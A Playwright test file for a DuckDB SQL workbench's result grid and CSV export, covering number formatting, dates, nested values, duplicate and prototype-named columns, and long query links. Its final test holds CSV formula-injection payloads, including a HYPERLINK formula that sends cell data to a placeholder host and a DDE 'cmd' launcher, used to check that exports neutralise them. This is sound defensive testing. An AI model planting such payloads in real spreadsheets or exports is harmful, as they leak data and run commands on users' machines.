/**
 * What the SQL workbench shows and downloads is what DuckDB computed (issue 11, items 7, 8, 12, 16):
 * DECIMAL with its decimal point, integers beyond 2^53 exact, dates as dates, nested values as DuckDB
 * prints them, repeated or hostile column names kept apart, `?` in a literal, links of any length,
 * and CSV downloads without live spreadsheet formulas.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import type { Page } from '@playwright/test';
import { parseCsvRecords } from '../../src/lib/pipeline/csv';
import { test, expect, expectClean } from './fixtures';
import { runAndWait, setQuery } from './sql-helpers';

async function open(page: Page, sql: string) {
  await page.goto(`/sql#q=${encodeURIComponent(sql)}`);
  await expect(page.getByTestId('sql-run')).toBeEnabled({ timeout: 60_000 });
  await runAndWait(page);
  await expect(page.getByTestId('sql-result')).toBeVisible();
}
const headers = (page: Page) => page.getByTestId('sql-result').locator('thead th').allInnerTexts();
const firstRow = async (page: Page) => (await page.getByTestId('sql-result').locator('tbody tr').first().locator('td').allInnerTexts()).slice(1);

async function downloadCsv(page: Page): Promise<string[][]> {
  const [file] = await Promise.all([page.waitForEvent('download'), page.locator('[data-download-result="csv"]').click()]);
  return parseCsvRecords(readFileSync((await file.path())!, 'utf8').replace(/^\ufeff/, ''), ',');
}

test('DECIMAL keeps its decimal point on screen and in the CSV (1.5, 0.25; sum × 0.5 is half)', async ({ page, watch }) => {
  await open(page, 'SELECT 1.5 AS a, 0.25 AS b, -0.25 AS c, 1.50::DECIMAL(10,2) AS d');
  expect(await firstRow(page)).toEqual(['1,5', '0,25', '-0,25', '1,5']);
  expect((await downloadCsv(page))[1]).toEqual(['1.5', '0.25', '-0.25', '1.5']);

  await setQuery(page, 'SELECT sum(nominal_rp) * 0.5 AS separuh, CAST(sum(nominal_rp) AS DOUBLE) AS total FROM penerima');
  await runAndWait(page);
  const [, row] = await downloadCsv(page);
  expect(Number(row[0]) * 2).toBe(Number(row[1]));
  expect(Number(row[1])).toBeGreaterThan(0);
  expectClean(watch);
});

test('BIGINT beyond 2^53, HUGEINT, DATE, TIMESTAMP, INTERVAL, LIST, STRUCT and MAP round-trip', async ({ page, watch }) => {
  await open(
    page,
    "SELECT 9007199254740993::BIGINT AS besar, 170141183460469231731687303715884105727::HUGEINT AS huge, DATE '2024-03-05' AS tgl, TIMESTAMP '2024-03-05 12:34:56.5' AS waktu, INTERVAL '1 year 2 days 03:00:00' AS selang, [1, 2] AS daftar, {'a': 1, 'b': 'x'} AS rek, MAP {'k': 1} AS peta"
  );
  expect(await firstRow(page)).toEqual([
    '9.007.199.254.740.993',
    '170.141.183.460.469.231.731.687.303.715.884.105.727',
    '2024-03-05',
    '2024-03-05 12:34:56.5',
    '1 year 2 days 03:00:00',
    '[1, 2]',
    "{'a': 1, 'b': x}",
    '{k=1}'
  ]);
  expect((await downloadCsv(page))[1]).toEqual([
    '9007199254740993',
    '170141183460469231731687303715884105727',
    '2024-03-05',
    '2024-03-05 12:34:56.5',
    '1 year 2 days 03:00:00',
    '[1, 2]',
    "{'a': 1, 'b': x}",
    '{k=1}'
  ]);
  expectClean(watch);
});

test('a dropped Parquet DECIMAL(10,2) 1.50 is 1,5 (not 150) and its dates are dates', async ({ page, watch }) => {
  const dir = mkdtempSync(join(tmpdir(), 'dampak-dec-'));
  const file = join(dir, 'nominal_desimal.parquet');
  const conn = await (await DuckDBInstance.create(':memory:')).connect();
  await conn.run(
    `COPY (SELECT 'Kota Batu' AS wilayah, 1.50::DECIMAL(10,2) AS nominal, DATE '2024-01-31' AS tanggal, TIMESTAMP '2024-01-31 08:00:00' AS waktu) TO '${file}' (FORMAT parquet)`
  );
  await page.goto('/data');
  await page.getByTestId('file-input').setInputFiles(file);
  await page.getByTestId('upload-register').click();
  await expect(page.getByTestId('upload-done')).toContainText('nominal_desimal');
  await page.getByTestId('upload-done').getByRole('link', { name: 'Buka di meja kerja SQL' }).click();
  await expect(page.getByTestId('sql-run')).toBeEnabled({ timeout: 60_000 });
  await setQuery(page, 'SELECT nominal, nominal * 2 AS dua_kali, tanggal, waktu FROM nominal_desimal');
  await runAndWait(page);
  expect(await firstRow(page)).toEqual(['1,5', '3', '2024-01-31', '2024-01-31 08:00:00']);
  expectClean(watch);
});

test('repeated and hostile column names stay apart in the grid and the CSV', async ({ page, watch }) => {
  await open(page, 'SELECT 1 AS a, 2 AS a, 3 AS "__proto__", 4 AS "constructor", 5 AS "toString"');
  expect((await headers(page)).slice(1)).toEqual(['a', 'a_1', '__proto__', 'constructor', 'toString']);
  expect(await firstRow(page)).toEqual(['1', '2', '3', '4', '5']);
  expect(await downloadCsv(page)).toEqual([
    ['a', 'a_1', '__proto__', 'constructor', 'toString'],
    ['1', '2', '3', '4', '5']
  ]);
  expectClean(watch);
});

test('a `?` inside a literal is text, not a parameter', async ({ page, watch }) => {
  await open(page, "SELECT '?' AS tanya, 'a ? b' AS teks, '??' AS dua");
  expect(await firstRow(page)).toEqual(['?', 'a ? b', '??']);
  expectClean(watch);
});

test('a link of more than 8 KB opens, runs on Run, and survives a reload (the query lives in the fragment)', async ({ page, watch }) => {
  const codes = Array.from({ length: 1400 }, (_, i) => `'${9000 + i}'`).join(', ');
  const sql = `SELECT count(*) AS n FROM wilayah WHERE kode NOT IN (${codes})`;
  expect(sql.length).toBeGreaterThan(8 * 1024);
  await open(page, sql);
  const rows = await firstRow(page);
  expect(Number(rows[0])).toBe(38);
  const url = new URL(page.url());
  expect(url.searchParams.get('q')).toBeNull();
  expect(decodeURIComponent(url.hash.slice(3))).toBe(sql);
  const res = await page.reload();
  expect(res?.status()).toBe(200);
  await expect(page.getByTestId('sql-from-link')).toBeVisible();
  await expect(page.getByTestId('sql-result')).toHaveCount(0);
  // an old-style ?q= link (short enough for any server's request line) is still read, and not run
  const legacy = await page.goto(`/sql?q=${encodeURIComponent('SELECT 42 AS lama')}`);
  expect(legacy?.status()).toBe(200);
  await expect(page.locator('[data-testid="sql-editor"] .cm-content')).toContainText('SELECT 42 AS lama');
  await expect(page.getByTestId('sql-from-link')).toBeVisible();
  expectClean(watch);
});

test('the result CSV neutralises spreadsheet formulas', async ({ page, watch }) => {
  await open(
    page,
    `SELECT '=HYPERLINK("http://x.example/?"&A1,"klik")' AS f, '+cmd|'' /C calc''!A0' AS g, '@SUM(A1:A9)' AS h, '-2+3+cmd|x' AS i, -5 AS n, '-5' AS s`
  );
  const [head, row] = await downloadCsv(page);
  expect(head).toEqual(['f', 'g', 'h', 'i', 'n', 's']);
  expect(row).toEqual([`'=HYPERLINK("http://x.example/?"&A1,"klik")`, "'+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'-2+3+cmd|x", '-5', '-5']);
  expectClean(watch);
});
